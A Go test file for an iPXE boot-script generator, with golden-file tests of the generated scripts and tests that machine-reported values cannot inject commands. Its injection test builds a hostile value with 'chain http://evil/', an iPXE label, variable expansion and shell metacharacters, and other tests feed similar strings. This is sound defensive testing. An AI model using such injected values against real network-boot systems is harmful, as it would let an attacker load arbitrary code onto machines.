package ipxe

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

var image = Image{Cluster: "plant", Cmdline: "roothash=aa spore.clusterhash=bb ro console=tty0"}

// golden compares with a file that a person can review; UPDATE=1 writes it.
func golden(t *testing.T, name string, got []byte, err error) {
	t.Helper()
	require.NoError(t, err)
	name = filepath.Join("testdata", name)
	if os.Getenv("UPDATE") != "" {
		require.NoError(t, os.WriteFile(name, got, 0o644))
	}
	want, err := os.ReadFile(name)
	require.NoError(t, err)
	require.Equal(t, string(want), string(got))
}

func TestScripts(t *testing.T) {
	plain, err := Plain(image)
	golden(t, "boot.ipxe", plain, err)
	golden(t, "start.ipxe", First(), nil)
	known, err := Known(image, Node{Name: "edge-01", Why: "mac 52:54:00:77:00:0b", Base: "http://10.77.0.2/", Arguments: []string{"spore.install=DISK0001"}})
	golden(t, "known.ipxe", known, err)
	m := Machine{MACs: []string{"52:54:00:99:00:01", "52:54:00:99:00:02"}, Serial: "SN-0815", UUID: "3a5b8f0e-0000-4000-8000-0000000000ff", Address: "10.77.0.200"}
	unknown, err := Unknown(image, m, "", "http://10.77.0.2/")
	golden(t, "unknown.ipxe", unknown, err)
	both, err := Unknown(image, m, "this machine would be more than one node: mac 52:54:00:99:00:01 is edge-01, serial sn-0815 is edge-02", "http://10.77.0.2/")
	golden(t, "ambiguous.ipxe", both, err)
	golden(t, "disk.ipxe", Disk("edge-01"), nil)
}

func TestWhatMachinesSayCannotBecomePartOfAScript(t *testing.T) {
	bad := "x\n:boot\nchain http://evil/ || ${net0/mac} \"'`$\\\x1b[2J" + strings.Repeat("y", 300)
	m := Machine{MACs: []string{bad}, Serial: bad, UUID: bad, Address: bad, Hostname: bad}
	got, err := Unknown(image, m, bad, "http://10.77.0.2/")
	require.NoError(t, err)
	clean, err := Unknown(image, Machine{MACs: []string{"x"}, Serial: "x", UUID: "x", Address: "x", Hostname: "x"}, "x", "http://10.77.0.2/")
	require.NoError(t, err)
	require.Equal(t, strings.Count(string(clean), "\n"), strings.Count(string(got), "\n"), "no line is added")
	require.Equal(t, strings.Count(string(clean), "${"), strings.Count(string(got), "${"))
	require.Equal(t, strings.Count(string(clean), "||"), strings.Count(string(got), "||"))
	for _, c := range []string{"\x1b", "`", "'", `\`} {
		require.NotContains(t, string(got), c)
	}
	for _, line := range strings.Split(string(got), "\n") {
		require.LessOrEqual(t, len(line), 400)
	}
}

func TestACommandLineThatIPXEWouldChangeIsRefused(t *testing.T) {
	for _, cmdline := range []string{"a=${b}", "a || b", "a && b", "a\nb", `a\b`} {
		i := Image{Cluster: "plant", Cmdline: cmdline}
		_, err := Plain(i)
		require.Error(t, err, cmdline)
		_, err = Known(i, Node{})
		require.Error(t, err, cmdline)
		_, err = Unknown(i, Machine{}, "", "")
		require.Error(t, err, cmdline)
	}
}

func FuzzText(f *testing.F) {
	f.Add("SN-0815")
	f.Add("a\nb ${c} || d")
	f.Fuzz(func(t *testing.T, s string) {
		got := text(s)
		require.False(t, strings.ContainsAny(got, "\n\r\t$\\\"'`|&;"))
		require.LessOrEqual(t, len(got), maxText)
	})
}
